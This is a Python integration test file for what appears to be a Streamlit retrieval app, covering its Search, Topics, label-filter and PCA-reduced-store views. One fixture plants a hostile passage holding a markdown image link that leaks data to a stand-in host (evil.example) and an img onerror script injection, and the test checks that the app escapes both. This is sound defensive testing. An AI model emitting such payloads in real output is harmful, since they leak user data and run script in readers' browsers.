"""AppTest of the Search and Topics views on the two-subject corpus (real store, model)."""

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from rag.embedding.models import SentenceTransformerEmbedder
from rag.store.index import connect
from tests.conftest import ROOT, run_ingest
from tests.integration.test_beyond import small_chunks, write_corpus

pytestmark = pytest.mark.integration

APP = str(ROOT / "app.py")
TIMEOUT = 180
HOSTILE = "Rye dough ![leak](http://evil.example/leak?d=1) <img src=x onerror=alert(1)>"


@pytest.fixture(autouse=True)
def no_llm(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "RAG_LLM_BASE_URL", "RAG_LLM"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("RAG_DEVICE", "cpu")
    monkeypatch.setenv("RAG_RETRIEVAL_MODE", "dense")


@pytest.fixture
def store_dir(
    tmp_path: Path, embedder: SentenceTransformerEmbedder, monkeypatch: pytest.MonkeyPatch
) -> Path:
    settings = small_chunks(tmp_path / "store")
    docs = write_corpus(tmp_path / "docs")
    hostile = tmp_path / "docs" / "hostile.txt"
    hostile.write_text(HOSTILE, encoding="utf-8")
    report = run_ingest(settings, embedder, [*docs, hostile])
    assert report.errors == [] and report.chunks_written == 11
    monkeypatch.setenv("RAG_STORE_DIR", str(settings.store.store_dir))
    monkeypatch.setenv("RAG_CHUNK_SIZE", str(settings.ingest.chunk_size))
    monkeypatch.setenv("RAG_CHUNK_OVERLAP", str(settings.ingest.chunk_overlap))
    return settings.store.store_dir


def test_search_view_ranks_passages_and_highlights_safely(store_dir: Path) -> None:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception
    at.radio(key="view").set_value("Search").run()
    assert len(at.chat_input) == 0  # the chat is not on this view
    at.text_input(key="search_query").input("how long to knead the dough").run()
    assert not at.exception and not at.error
    body = [m.value for m in at.markdown]
    headers = [m for m in body if m.startswith("**") and "· score " in m]
    assert len(headers) == 5  # RAG_TOP_K
    assert headers[0].startswith("**1.** `bread-basics.txt` · score ")
    assert "· similarity " in headers[0]
    assert any(m.startswith("**Knead** the wheat **dough** for ten minutes") for m in body)
    # the hostile passage is among the hits (it says "dough"), rendered inert
    hostile = [m for m in body if m.startswith("Rye **dough**")]
    assert hostile == [
        "Rye **dough** \\!\\[leak\\](`http://evil.example/leak?d=1`) "
        "\\<img src=x onerror=alert(1)\\>"
    ]
    assert not any("](http" in m or "<img" in m.replace("\\<img", "") for m in body)


def test_topics_view_draws_the_map_and_lists_the_clusters(store_dir: Path) -> None:
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    at.radio(key="view").set_value("Topics").run()
    at.checkbox(key="topics_auto").uncheck().run()
    at.slider(key="topics_k").set_value(2).run()
    assert not at.exception and not at.error
    assert any(c.value.startswith("2 topics over 11 chunks") for c in at.caption)
    assert len(at.image) == 1 and len(at.image[0].value) == 1  # st.pyplot's figure
    lines = [m.value for m in at.markdown if m.value.startswith(("**1. ", "**2. "))]
    assert len(lines) == 2
    bread = next(line for line in lines if "bread-basics.txt" in line)
    stars = next(line for line in lines if "stars-life.txt" in line)
    assert "`bread-shaping.txt`" in bread and "stars" not in bread.split("—")[2]
    assert "`stars-observing.txt`" in stars and "bread" not in stars.split("—")[2]
    assert "— 7 chunks —" in bread and "— 4 chunks —" in stars  # the rye dough joins bread


def test_search_view_label_filter(store_dir: Path) -> None:
    from rag.config import Settings

    store = connect(Settings.default(store_dir).store)
    hits, _ = store.all_vectors()
    store.set_labels(
        {h.chunk_id: "sky" if "stars" in Path(h.source).name else "kitchen" for h in hits}
    )
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    at.radio(key="view").set_value("Search").run()
    assert at.selectbox(key="search_label").options == ["(all labels)", "kitchen", "sky"]
    at.selectbox(key="search_label").set_value("sky").run()
    at.text_input(key="search_query").input("how long to knead the dough").run()
    assert not at.exception and not at.error
    headers = [m.value for m in at.markdown if "· score " in m.value]
    assert len(headers) == 4
    assert all("`stars-" in h for h in headers)


def test_app_on_a_pca_reduced_store(
    tmp_path: Path, embedder: SentenceTransformerEmbedder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """RAG_EMBED_DIM: the app wraps its shared model in the collection's PCA, so Search and
    Chat work on the reduced vectors, and the sidebar says what the store holds."""
    settings = small_chunks(tmp_path / "store").replace(embed_dim=4)
    # the index puts the collection's PCA in front of the model
    assert run_ingest(settings, embedder, write_corpus(tmp_path / "docs")).chunks_written == 10
    monkeypatch.setenv("RAG_STORE_DIR", str(settings.store.store_dir))
    monkeypatch.setenv("RAG_CHUNK_SIZE", str(settings.ingest.chunk_size))
    monkeypatch.setenv("RAG_CHUNK_OVERLAP", str(settings.ingest.chunk_overlap))
    monkeypatch.setenv("RAG_EMBED_DIM", "4")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT).run()
    assert not at.exception and not at.error
    assert any("all-MiniLM-L6-v2 · 4 dims (PCA)" in c.value for c in at.sidebar.caption)
    at.chat_input[0].set_value("how do stars form from hydrogen gas?").run()
    assert not at.exception and not at.error
    cited = [m.value for m in at.markdown if m.value.startswith("**\\[1\\]**")]
    assert cited and "`stars-life.txt`" in cited[0]
    at.radio(key="view").set_value("Search").run()
    at.text_input(key="search_query").input("supernova explosions").run()
    assert not at.exception and not at.error
    headers = [m.value for m in at.markdown if "· score " in m.value]
    assert headers and headers[0].startswith("**1.** `stars-")
